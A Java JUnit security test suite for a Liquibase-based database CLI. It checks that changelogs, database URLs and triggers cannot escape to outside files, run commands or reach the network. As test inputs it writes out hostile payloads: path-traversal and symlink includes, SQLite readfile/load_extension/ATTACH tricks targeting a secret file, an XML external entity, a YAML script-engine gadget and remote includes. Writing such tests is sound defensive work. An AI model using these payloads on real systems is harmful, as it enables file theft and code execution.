package seedarr.db.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A changelog, a database and a URL from elsewhere reach nothing but the database and the folder of the changelog. */
class SecurityTest {

    private static final String REVISION = """
            databaseChangeLog:
              - changeSet:
                  id: 004_evil
                  author: nobody
                  changes:
                    - %s
                    - tagDatabase: { tag: 004_evil }
                  rollback:
                    - sql: { sql: "SELECT 1" }
            """;

    @TempDir
    Path temporary;

    private Path installation;
    private Sqlite database;
    private Command command;

    @BeforeEach
    void a_changelog_beside_a_secret() throws Exception {
        installation = Files.createDirectory(temporary.resolve("installation"));
        new Folder(installation).withChangelog();
        Files.writeString(temporary.resolve("secret.txt"), "hunter2");
        Files.writeString(
                temporary.resolve("outside.yaml"), REVISION.formatted("sql: { sql: \"CREATE TABLE hunter2 (a)\" }"));
        database = Sqlite.v1(Files.createDirectory(temporary.resolve("data")));
        command = Command.in(temporary).on(database.url());
    }

    private void include(String include) throws Exception {
        Path master = installation.resolve("changelog/master.yaml");
        Files.writeString(master, Files.readString(master) + "  - " + include + "\n");
    }

    private String refuses() throws Exception {
        Map<String, String> before = new Folder(temporary).contents();
        Command.Result result = command.run(
                "update",
                "--defaults-file",
                installation.resolve("liquibase.properties").toString());
        assertThat(result.exitCode()).isEqualTo(1);
        assertThat(result.out() + result.err()).doesNotContain("hunter2");
        assertThat(new Folder(temporary).contents()).isEqualTo(before);
        return result.err();
    }

    @ParameterizedTest
    @CsvSource({
        "include, file, ../../outside.yaml, true",
        "include, file, ../outside.yaml, false",
        "include, file, DIR/outside.yaml, false",
        "include, file, file:DIR/outside.yaml, false",
        "include, file, link.yaml, true",
        "include, file, linked/outside.yaml, true",
        "include, file, classpath:liquibase/resource-filter.txt, false",
        "includeAll, path, ../.., true",
        "includeAll, path, linked, true",
    })
    void a_changelog_includes_nothing_from_outside(String how, String what, String file, boolean isRelative)
            throws Exception {
        Files.createSymbolicLink(installation.resolve("changelog/link.yaml"), temporary.resolve("outside.yaml"));
        Files.createSymbolicLink(installation.resolve("changelog/linked"), temporary);
        include("%s: { %s: \"%s\", relativeToChangelogFile: %s }"
                .formatted(how, what, file.replace("DIR", temporary.toString()), isRelative));
        refuses();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "executeCommand: { executable: touch, args: [ { arg: { value: DIR/touched } } ] }",
                "customChange: { class: liquibase.precondition.core.NotPrecondition }",
                "output: { target: STDOUT, message: hello }",
                "sqlFile: { path: DIR/secret.txt }",
                "sqlFile: { path: ../../secret.txt, relativeToChangelogFile: true }",
                "loadData: { file: ../../secret.txt, relativeToChangelogFile: true, tableName: tags }",
                "loadData: { file: DIR/secret.txt, tableName: tags }",
                "sql: { sql: \"ATTACH 'DIR/secret.txt' AS other\" }",
                "sql: { sql: \"ATTACH 'DIR/new.db' AS other\" }",
                "sql: { sql: \"VACUUM INTO 'DIR/new.db'\" }",
                "sql: { sql: \"SELECT load_extension('DIR/secret.txt')\" }",
                "sql: { sql: \"SELECT writefile('DIR/new.txt', 'x')\" }",
                "sql: { sql: \"SELECT readfile('DIR/secret.txt')\" }",
                "sql: { sql: \"PRAGMA temp_store_directory = 'DIR'\" }",
                "sql: { sql: \"/* */ PRAGMA main.journal_mode = OFF\" }",
                "sql: { splitStatements: false, sql: \"\\uFEFF ; /**/ COMMIT\" }",
                "sql: { sql: \"PRAGMA/**/ \\\"main\\\".\\\"journal_mode\\\" = OFF\" }",
                "!!javax.script.ScriptEngineManager []",
            })
    void a_revision_reaches_nothing_but_the_database(String change) throws Exception {
        Files.writeString(
                installation.resolve("changelog/004_evil.yaml"),
                REVISION.formatted(change.replace("DIR", temporary.toString())));
        include("include: { file: 004_evil.yaml, relativeToChangelogFile: true }");
        refuses();
    }

    @Test
    void an_xml_changelog_reads_no_external_entity() throws Exception {
        Files.writeString(installation.resolve("changelog/004_evil.xml"), """
                <?xml version="1.0"?>
                <!DOCTYPE databaseChangeLog [<!ENTITY secret SYSTEM "file://%s/secret.txt">]>
                <databaseChangeLog xmlns="http://www.liquibase.org/xml/ns/dbchangelog"
                    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.liquibase.org/xml/ns/dbchangelog
                        http://www.liquibase.org/xml/ns/dbchangelog/dbchangelog-latest.xsd">
                  <changeSet id="004_evil" author="nobody">
                    <sql>CREATE TABLE "&secret;" (a)</sql>
                    <tagDatabase tag="004_evil"/>
                    <rollback>SELECT 1</rollback>
                  </changeSet>
                </databaseChangeLog>
                """.formatted(temporary));
        include("include: { file: 004_evil.xml, relativeToChangelogFile: true }");
        refuses();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "include: { file: \"http://HOST/evil.yaml\" }",
                "include: { file: \"//HOST/evil.yaml\" }",
                "property: { file: \"http://HOST/evil.properties\" }",
                "changeSet: { id: 004_evil, author: nobody, changes: [ { loadData: { file: \"http://HOST/x.csv\","
                        + " tableName: tags } }, { tagDatabase: { tag: 004_evil } } ], rollback: [ { sql: { sql: SELECT 1 } } ] }",
            })
    void a_changelog_reaches_no_network(String entry) throws Exception {
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            include(entry.replace("HOST", "127.0.0.1:" + server.getLocalPort()));
            refuses();
            server.setSoTimeout(50);
            assertThat(isAsked(server)).isFalse();
        }
    }

    private static boolean isAsked(ServerSocket server) throws Exception {
        try {
            server.accept().close();
            return true;
        } catch (SocketTimeoutException e) {
            return false;
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:sqlite::resource:http://127.0.0.1:1/a.db",
                "jdbc:sqlite::resource:/seedarr/db/cli/version.txt",
                "sqlite:///:resource:/seedarr/db/cli/version.txt",
                "sqlite:///file:data/seedarr.db?vfs=unix-none&uri=true",
                "sqlite:///data/seedarr.db?load_extension=x&uri=true",
                "jdbc:sqlite:data/seedarr.db?enable_load_extension=true",
            })
    void a_url_opens_no_other_resource(String url) throws Exception {
        Map<String, String> before = new Folder(temporary).contents();
        Command.Result result = command.on(url).run("current");
        assertThat(result.exitCode() == 2 || result.out().equals("base\n"))
                .as(result.toString())
                .isTrue();
        assertThat(new Folder(temporary).contents()).isEqualTo(before);
    }

    @Test
    void a_trigger_of_a_database_from_elsewhere_loads_no_extension() throws Exception {
        database.execute("CREATE TRIGGER evil AFTER UPDATE ON file_entries BEGIN SELECT load_extension('"
                + temporary.resolve("secret.txt") + "'); END");
        Files.writeString(
                installation.resolve("changelog/004_evil.yaml"),
                REVISION.formatted("sql: { sql: \"UPDATE file_entries SET error_message = ''\" }"));
        include("include: { file: 004_evil.yaml, relativeToChangelogFile: true }");
        assertThat(refuses()).startsWith("error: 004_evil failed: ");
    }

    @Test
    void a_precondition_runs_no_class() throws Exception {
        Files.writeString(
                installation.resolve("changelog/004_evil.yaml"),
                REVISION.formatted("sql: { sql: \"SELECT 1\" }")
                        .replace(
                                "      changes:",
                                "      preConditions: [ { and: [ { customPrecondition: { className: java.util.Random } } ] } ]\n"
                                        + "      changes:"));
        include("include: { file: 004_evil.yaml, relativeToChangelogFile: true }");
        assertThat(refuses())
                .startsWith(
                        "error: changelog/004_evil.yaml has customPrecondition, but a revision is SQL and nothing else\n");
    }
}
